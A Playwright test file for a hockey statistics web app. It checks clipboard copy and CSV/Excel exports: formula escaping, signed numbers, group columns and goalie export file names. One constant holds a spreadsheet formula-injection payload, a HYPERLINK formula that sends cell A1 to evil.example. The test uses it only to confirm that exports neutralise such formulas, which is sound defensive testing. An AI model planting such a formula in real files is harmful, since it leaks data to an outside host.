import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { env, expect, screenshot, test } from './fixtures.ts';

/**
 * Exports and Copy where the page decides what goes out, in the browser shell on the demo data: a note
 * that starts like a formula reaches the clipboard as text (TSV and HTML), signed numbers stay numbers;
 * standings by group keep each row's group as a column, in the order shown (the Standings view's and the
 * league page's); the three parts of a goalie table export under three names. Expected values come from the test's own service client and the
 * table the page shows.
 */

interface Standing {
  teamName: string;
  group: string | null;
  stats: { GD?: number | null } | null;
}

/** One bridge call from the page, with the per-launch token, as the app's own client makes it. */
async function bridge<T>(page: Page, op: string, args: unknown): Promise<T> {
  const r = await page.evaluate(
    async ({ op, args }) => {
      const token = document.querySelector<HTMLMetaElement>('meta[name="rinkside-bridge-token"]')?.content ?? '';
      const res = await fetch(`/bridge/${op}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-rinkside-token': token },
        body: JSON.stringify(args),
      });
      return res.json();
    },
    { op, args },
  );
  if (!r.ok) throw new Error(`${op}: ${r.error.message}`);
  return r.value as T;
}

/** What Copy put on the clipboard: its plain text, and its HTML table's cells as a browser reads them. */
async function clipboard(page: Page): Promise<{ text: string; htmlCells: string[][] }> {
  return page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    if (!item) return { text: '', htmlCells: [] };
    const text = await (await item.getType('text/plain')).text();
    const html = item.types.includes('text/html') ? await (await item.getType('text/html')).text() : '';
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const htmlCells = [...doc.querySelectorAll('tr')].map((tr) => [...tr.cells].map((c) => c.textContent ?? ''));
    return { text, htmlCells };
  });
}

async function copyPage(page: Page): Promise<void> {
  await page.getByRole('button', { name: /^Export/ }).click();
  await page.getByRole('button', { name: 'Copy this page' }).click();
  await expect(page.getByText(/^Copied \d+ rows? to the clipboard\.$/)).toBeVisible();
}

async function exportFile(page: Page, format: 'CSV' | 'Excel (.xlsx)'): Promise<Download> {
  await page.getByRole('button', { name: /^Export/ }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: format, exact: true }).click();
  return download;
}

const signed = (v: number) => (v > 0 ? `+${v}` : String(v));
const NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"Open")';

test('Copy puts a note that starts like a formula on the clipboard as text; signed numbers stay numbers', async ({
  page,
  context,
  service,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.demo.url });
  await page.goto(`${env.demo.url}#/lists`);
  await expect(page.getByRole('heading', { level: 1, name: 'Scouting lists' })).toBeVisible();
  const list = await bridge<{ id: number }>(page, 'scoutingListCreate', { name: `Formulas ${Date.now()}` });
  try {
    await bridge(page, 'scoutingListEntrySave', {
      listId: list.id,
      playerId: 987654,
      player: { name: 'Formula Tester', position: 'D' },
      rating: 3,
      note: NOTE,
    });
    // A fresh load, so the page reads the lists the bridge calls above made.
    await page.goto(`${env.demo.url}#/lists/${list.id}`);
    await page.reload();
    await expect(page.getByRole('button', { name: /^Note on Formula Tester/ })).toBeVisible();
    await screenshot(page, 'list-with-formula-note');
    await copyPage(page);
    const listCopy = await clipboard(page);
    const [head, row] = listCopy.text.split('\n').map((l) => l.split('\t'));
    const note = head?.indexOf('Note') ?? -1;
    expect(note).toBeGreaterThanOrEqual(0);
    expect(row?.[note]).toBe(`'${NOTE}`);
    expect(listCopy.htmlCells[1]?.[note]).toBe(`'${NOTE}`);
  } finally {
    await bridge(page, 'scoutingListDelete', { id: list.id });
  }

  // Standings: GD is a signed number (`+57`): Copy leaves it as it is.
  const first = await service.list<Standing>('/leagues/nhl/standings', { sort: 'group,position', limit: '100' });
  await page.goto(`${env.demo.url}#/standings?league=nhl`);
  const table = page.getByRole('table', { name: /^the standings of/ });
  await expect(table.locator('tbody tr[aria-rowindex]').first()).toBeVisible();
  await copyPage(page);
  const standings = await clipboard(page);
  const lines = standings.text.split('\n').map((l) => l.split('\t'));
  const gd = lines[0]?.indexOf('GD') ?? -1;
  expect(gd).toBeGreaterThanOrEqual(0);
  expect(lines.slice(1).map((l) => l[gd])).toEqual(first.data.map((s) => signed(s.stats?.GD ?? 0)));
  expect(lines.slice(1).some((l) => l[gd]?.startsWith('+'))).toBe(true);
  expect(standings.htmlCells.slice(1).map((c) => c[gd])).toEqual(first.data.map((s) => signed(s.stats?.GD ?? 0)));
});

test('By group, the standings CSV and XLSX carry each row’s group as its own column, in the order shown', async ({
  page,
  service,
}) => {
  const all = await service.list<Standing>('/leagues/nhl/standings', { sort: 'group,position', limit: '1000' });
  expect(new Set(all.data.map((s) => s.group)).size).toBeGreaterThan(1);
  await page.goto(`${env.demo.url}#/standings?league=nhl`);
  const table = page.getByRole('table', { name: /^the standings of/ });
  await expect(table.locator('tbody tr.group-row').first()).toBeVisible();
  // The page as shown: each group's heading row, then its teams.
  const shown = await table.evaluate((el) => {
    const out: { group: string; team: string }[] = [];
    let group = '';
    for (const r of (el as HTMLTableElement).tBodies[0]?.rows ?? []) {
      if (r.classList.contains('group-row')) group = (r.textContent ?? '').trim();
      else if (r.hasAttribute('aria-rowindex')) {
        const team = r.querySelector('td .strong')?.textContent?.trim() ?? '';
        out.push({ group, team });
      }
    }
    return out;
  });
  expect(shown.map((r) => r.team)).toEqual(all.data.slice(0, shown.length).map((s) => s.teamName));
  await page.getByRole('button', { name: /^Export/ }).click();
  await screenshot(page, 'export-menu-standings');
  await page.keyboard.press('Escape');

  const csv = await exportFile(page, 'CSV');
  const text = (await readFile(await csv.path())).toString('utf8').replace(/^\uFEFF/, '');
  const [header, ...rows] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
  expect(header?.slice(0, 3)).toEqual(['Group', 'Pos', 'Team']);
  expect(rows.map((r) => [r[0], r[2]])).toEqual(all.data.map((s) => [s.group ?? '', s.teamName]));
  // The group the page heads each shown row with is the row's group in the file.
  expect(rows.slice(0, shown.length).map((r) => r[0])).toEqual(shown.map((r) => r.group));

  const xlsx = await exportFile(page, 'Excel (.xlsx)');
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(await xlsx.path());
  const sheet = book.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  expect(sheet.getRow(1).getCell(1).value).toBe('Group');
  expect(all.data.map((_, i) => [sheet.getRow(i + 2).getCell(1).value, sheet.getRow(i + 2).getCell(3).value])).toEqual(
    all.data.map((s) => [s.group ?? null, s.teamName]),
  );
});

test('The league page’s standings by group export each row’s group as its own column too', async ({
  page,
  service,
}) => {
  const league = (await service.list<{ activeSeason: { slug: string } }>('/leagues', { slug: 'nhl', limit: '1' }))
    .data[0];
  const season = league?.activeSeason.slug ?? '';
  const all = await service.list<Standing>('/leagues/nhl/standings', {
    season,
    sort: 'group,position',
    limit: '1000',
  });
  expect(new Set(all.data.map((s) => s.group)).size).toBeGreaterThan(1);
  await page.goto(`${env.demo.url}#/leagues/nhl`);
  const table = page.getByRole('table', { name: /^the standings of .* in / });
  await expect(table.locator('tbody tr.group-row').first()).toBeVisible();
  const csv = await exportFile(page, 'CSV');
  const text = (await readFile(await csv.path())).toString('utf8').replace(/^\uFEFF/, '');
  const [header, ...rows] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
  expect(header?.slice(0, 3)).toEqual(['Group', 'Pos', 'Team']);
  expect(rows.map((r) => [r[0], r[2]])).toEqual(all.data.map((s) => [s.group ?? '', s.teamName]));
});

test('Regular season, Playoffs and Total goalie exports each have a file name that says which part', async ({
  page,
  service,
}) => {
  // A team-season with playoff goalie games, so all three parts have rows.
  const teams = await service.list<{ id: number }>('/teams', { league: 'nhl', limit: '50', fields: 'id' });
  let found: { id: number; season: string } | null = null;
  for (const t of teams.data) {
    const seasons = await service.list<{ slug: string }>(`/teams/${t.id}/seasons`, { limit: '100' });
    for (const s of seasons.data) {
      const p = await service.list(`/teams/${t.id}/goaltending-leaders`, {
        season: s.slug,
        'postseasonStats.GP:min': '1',
        limit: '1',
      });
      if (p._meta.totalRecords > 0) {
        found = { id: t.id, season: s.slug };
        break;
      }
    }
    if (found) break;
  }
  if (!found) throw new Error('no NHL team-season with playoff goalies in the demo data');
  const names: string[] = [];
  for (const block of ['regularStats', 'postseasonStats', 'totalStats']) {
    await page.goto(`${env.demo.url}#/teams/${found.id}/goaltending-leaders?block=${block}&season=${found.season}`);
    await expect(
      page
        .getByRole('table', { name: /^Goaltending leaders,/ })
        .locator('tbody tr[aria-rowindex]')
        .first(),
    ).toBeVisible();
    const file = await exportFile(page, 'Excel (.xlsx)');
    names.push(file.suggestedFilename());
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(await file.path());
    expect(book.worksheets.map((w) => w.name)).toEqual(['Goaltending leaders', 'About']);
  }
  expect(names).toHaveLength(3);
  expect(new Set(names).size).toBe(3);
  expect(names[0]).toMatch(/^rinkside-goaltending-regular-season-.*\.xlsx$/);
  expect(names[1]).toMatch(/^rinkside-goaltending-playoffs-.*\.xlsx$/);
  expect(names[2]).toMatch(/^rinkside-goaltending-total-.*\.xlsx$/);
  for (const n of names) expect(n).toContain(found.season);
});
